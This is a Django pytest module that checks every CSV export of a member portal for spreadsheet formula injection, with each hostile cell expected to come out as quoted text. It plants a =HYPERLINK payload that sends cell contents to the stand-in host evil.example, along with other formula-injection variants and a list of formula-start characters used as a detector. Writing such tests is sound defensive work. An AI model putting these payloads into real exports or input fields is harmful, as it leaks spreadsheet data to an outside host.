"""Every CSV the portal makes, with hostile text everywhere people write (issue 19, finding 3).

An applicant, a member or a respondent writes =HYPERLINK("https://evil.example/?"&A1,"x") in
every field that reaches a CSV; each export, the admin's actions and the pages' downloads
alike, must hand it over as text: no cell starts with what a spreadsheet runs as a formula.
New exports fail test_every_export_is_walked until they are added to EXPORTS.
"""

import csv
import io

import pytest
from django.contrib import admin
from django.urls import get_resolver, reverse

from members.models import Answer as SurveyAnswer
from members.models import SurveyResponse
from pledges.feedback import services as feedback_services
from pledges.feedback.models import MIN_RESPONSES
from pledges.models import Commitment
from tests.factories import (
    AssessmentFactory,
    EventFactory,
    FeedbackQuestionFactory,
    FeedbackRoundFactory,
    JoinApplicationFactory,
    MemberFactory,
    MembershipFactory,
    OrganisationFactory,
    PlanItemFactory,
    PlanPeriodFactory,
    QuestionFactory,
    RegistrationFactory,
    ResourceFactory,
    SignatureFactory,
    SurveyFactory,
)
from tests.security.test_permission_matrix import walk

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"x")'
# What spreadsheets run: the formula characters, also after spaces, and tab or return first.
VARIANTS = [HOSTILE, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_cells(content):
    """Return the cells of a CSV text that a spreadsheet would run as formulas."""
    return [
        value
        for row in csv.reader(io.StringIO(content))
        for value in row
        if value[:1] in ("\t", "\r") or value.lstrip().startswith(FORMULA_STARTS)
    ]


class World:
    """Hostile text in every field an export shows, and the people who may download them."""

    def __init__(self, coordinator):
        self.coordinator = coordinator
        self.organisation = OrganisationFactory(name=HOSTILE)
        self.representative = MembershipFactory(organisation=self.organisation).user
        self.person = MemberFactory(first_name=HOSTILE, last_name="+1+1")
        MembershipFactory(user=self.person, organisation=self.organisation)
        self.application = JoinApplicationFactory(
            organisation_name=HOSTILE, motivation="-1+1", website="https://example.org"
        )
        self.survey = SurveyFactory(title=HOSTILE)
        question = QuestionFactory(survey=self.survey, text="@SUM(A1)", kind="text")
        response = SurveyResponse.objects.create(
            survey=self.survey, user=self.person, submitted_at=self.survey.opens_at
        )
        SurveyAnswer.objects.create(response=response, question=question, value=HOSTILE)
        self.event = EventFactory(title=HOSTILE)
        RegistrationFactory(event=self.event, user=self.person)
        self.resource = ResourceFactory(title=HOSTILE, summary="\t=1+1", publisher="  =1+1")
        SignatureFactory(
            organisation=self.organisation, signed_by=self.representative, statement=HOSTILE
        )
        Commitment.objects.filter(number=1).update(title=HOSTILE)
        AssessmentFactory(organisation=self.organisation, visibility="public")
        self.period = PlanPeriodFactory()
        PlanItemFactory(
            period=self.period, title=HOSTILE, owner_user=self.person, dropped_reason="-1"
        )
        self.feedback_round = FeedbackRoundFactory(organisation=self.organisation)
        open_question = FeedbackQuestionFactory(
            round=self.feedback_round, kind="open", standard="", texts={"en": HOSTILE}
        )
        for index in range(MIN_RESPONSES):
            feedback_services.feedback_respond(
                feedback_round=self.feedback_round,
                language="en",
                answers={open_question: VARIANTS[index % len(VARIANTS)]},
            )


def admin_action(model, action, objects):
    def download(client, world):
        client.force_login(world.coordinator)
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        selected = [obj.pk for obj in objects(world)]
        return client.post(url, {"action": action, "_selected_action": selected})

    return download


def page(name, who="coordinator", **kwargs):
    def download(client, world):
        client.force_login(getattr(world, who))
        arguments = {key: make(world) for key, make in kwargs.items()}
        return client.get(reverse(name, kwargs=arguments))

    return download


def _model(label):
    from django.apps import apps

    return apps.get_model(label)


EXPORTS = {
    "members.User:export_csv": admin_action(
        _model("members.User"), "export_csv", lambda w: [w.person]
    ),
    "members.JoinApplication:export_csv": admin_action(
        _model("members.JoinApplication"), "export_csv", lambda w: [w.application]
    ),
    "members.Survey:export_csv": admin_action(
        _model("members.Survey"), "export_csv", lambda w: [w.survey]
    ),
    "discussions.Event:export_participants": admin_action(
        _model("discussions.Event"), "export_participants", lambda w: [w.event]
    ),
    "library.Resource:export_csv": admin_action(
        _model("library.Resource"), "export_csv", lambda w: [w.resource]
    ),
    "pledges:signatures_csv": page("pledges:signatures_csv"),
    "pledges:radar_csv": page("pledges:radar_csv"),
    "plan:plan_csv": page("plan:plan_csv", slug=lambda w: w.period.slug),
    "plan:pulse_csv": page("plan:pulse_csv"),
    "feedback:round_csv": page(
        "feedback:round_csv", who="representative", pk=lambda w: w.feedback_round.pk
    ),
}


def test_every_export_is_walked():
    """Every admin action that exports and every page whose name says CSV is in EXPORTS."""
    found = {
        f"{model._meta.label}:{name}"
        for model, model_admin in admin.site._registry.items()
        for name in (model_admin.actions or [])
        if isinstance(name, str) and ("export" in name or "csv" in name)
    }
    found |= {name for _route, name in walk(get_resolver().url_patterns) if name and "csv" in name}
    assert found == set(EXPORTS)


@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_hands_over_a_formula(client, coordinator, export):
    world = World(coordinator)
    response = EXPORTS[export](client, world)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content.decode()
    assert formula_cells(content) == []
    # The hostile text is there, kept whole as text: the test saw what it guards.
    if export != "plan:pulse_csv":  # counts only; no text anyone wrote starts a cell there
        cells = [value for row in csv.reader(io.StringIO(content)) for value in row]
        assert any(value.startswith("'" + HOSTILE) for value in cells)
